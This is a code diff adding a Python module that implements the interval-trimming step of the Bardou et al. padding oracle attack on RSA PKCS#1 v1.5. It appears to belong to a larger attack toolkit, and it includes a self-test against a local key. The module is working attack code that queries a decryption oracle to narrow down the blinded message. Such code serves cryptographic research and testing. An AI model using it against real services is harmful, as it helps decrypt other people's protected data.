@@ -0,0 +1,146 @@
+"""
+Trimming of the initial interval of the attack, after Bardou et al., "Efficient Padding Oracle Attacks
+on Cryptographic Hardware" (CRYPTO 2012).
+
+The attack starts from M = [2B, 3B). A trimmer is a fraction u/t with a small t: if the blinded message m0
+is divisible by t, then m0 * u * t^-1 mod N is the integer m0 * u / t, which is conforming when u/t is close
+to 1. So the conforming trimmers reveal divisors of m0, and their least common multiple t is one as well.
+
+Every u makes m0 * u / t an exact integer then, which is conforming iff 2B <= m0 * u / t < 3B.
+Conforming is monotonic in u on either side of t, so the smallest and the largest conforming u are found
+by binary search (the paper's oracles check more than the first two bytes and scan them one by one instead),
+and they bound m0 to [2B * t / u_min, 3B * t / u_max).
+
+A trimmer whose t does not divide m0 conforms by chance once in about N / B queries. The t is then wrong,
+its u are answered at random, and both binary searches end at t itself, which leaves M untrimmed.
+"""
+
+from attack.backends import OracleBackend
+from utils.attack_utils import ceil_div
+from math import lcm
+from typing import Iterator
+
+DEFAULT_TRIMMERS = 500  # queries spent looking for trimmers
+
+
+def trimmers(count: int) -> Iterator[tuple[int, int]]:
+    """
+    Yields `count` trimmers (u, t), the closest to 1 first: (t - 1, t) and (t + 1, t) for t from 3 up.
+    For t = 2 they are 1/2 and 3/2, which a conforming m0 never conforms with.
+    """
+    t = 3
+    while True:
+        for u in (t - 1, t + 1):
+            if count <= 0:
+                return
+            yield u, t
+            count -= 1
+        t += 1
+
+
+def is_conforming(backend: OracleBackend, C: int, s: int) -> bool:
+    try:
+        backend.search(C, [s])
+    except ValueError:
+        return False
+    return True
+
+
+def find_denominator(backend: OracleBackend, C: int, N: int, count: int) -> int:
+    """
+    Queries `count` trimmers, and returns the least common multiple of the denominators of the conforming ones.
+
+    Args:
+        backend (OracleBackend): Answers the queries.
+        C (int): The blinded ciphertext.
+        N (int): The modulus of the RSA public key.
+        count (int): The number of trimmers to query.
+
+    Returns:
+        int: A divisor of the blinded message, 1 if no trimmer conforms.
+    """
+    pairs = list(trimmers(count))
+    candidates = [u * pow(t, -1, N) % N for u, t in pairs]
+    index = {s: i for i, s in enumerate(candidates)}
+    denominator = 1
+    start = 0
+    while start < len(candidates):
+        try:
+            s = backend.search(C, candidates[start:])
+        except ValueError:
+            break
+        found = index[s]
+        denominator = lcm(denominator, pairs[found][1])
+        start = found + 1
+    return denominator
+
+
+def trim(backend: OracleBackend, C: int, N: int, B: int, count: int) -> range:
+    """
+    Trims the initial interval [2B, 3B) of the blinded message with trimmers.
+
+    Args:
+        backend (OracleBackend): Answers the queries.
+        C (int): The blinded ciphertext.
+        N (int): The modulus of the RSA public key.
+        B (int): The value of the lsb in the second most significant byte of N.
+        count (int): The number of trimmers to query.
+
+    Returns:
+        range: The interval the blinded message is in.
+    """
+    t = find_denominator(backend, C, N, count)
+    if t == 1:
+        return range(2 * B, 3 * B)
+    t_inverse = pow(t, -1, N)
+
+    # m0 * u / t is below 2B for u <= 2t / 3, and conforming for u = t
+    low, high = 2 * t // 3, t
+    while high - low > 1:
+        middle = (low + high) // 2
+        if is_conforming(backend, C, middle * t_inverse % N):
+            high = middle
+        else:
+            low = middle
+    u_min = high
+
+    # m0 * u / t is conforming for u = t, and at least 3B for u >= 3t / 2
+    low, high = t, ceil_div(3 * t, 2)
+    while high - low > 1:
+        middle = (low + high) // 2
+        if is_conforming(backend, C, middle * t_inverse % N):
+            low = middle
+        else:
+            high = middle
+    u_max = low
+
+    return range(
+        max(2 * B, ceil_div(2 * B * t, u_min)), min(3 * B, ceil_div(3 * B * t, u_max))
+    )
+
+
+if __name__ == "__main__":
+    from attack.backends import LocalKeyBackend
+    from random import Random
+
+    local = LocalKeyBackend.from_file("private_key.rsa")
+    N, E = local.key.n, local.key.e
+    B = 2 ** (8 * ((N.bit_length() + 7) // 8 - 2))
+    random = Random(0)
+    trimmed = 0
+    for t in (1, 2, 3, 5, 6, 7, 12, 35):
+        # a conforming blinded message divisible by t
+        m0 = random.randrange(2 * B, 3 * B) // t * t
+        interval = trim(local, pow(m0, E, N), N, B, DEFAULT_TRIMMERS)
+        assert m0 in interval, (t, interval)
+        trimmed += interval.stop - interval.start < B
+
+    class NeverConforming(OracleBackend):
+        def search(self, C, candidates):
+            raise ValueError("no conforming query")
+
+        def oracle(self, num):
+            return False
+
+    assert trim(NeverConforming(), 2, N, B, DEFAULT_TRIMMERS) == range(2 * B, 3 * B)
+    assert trimmed > 0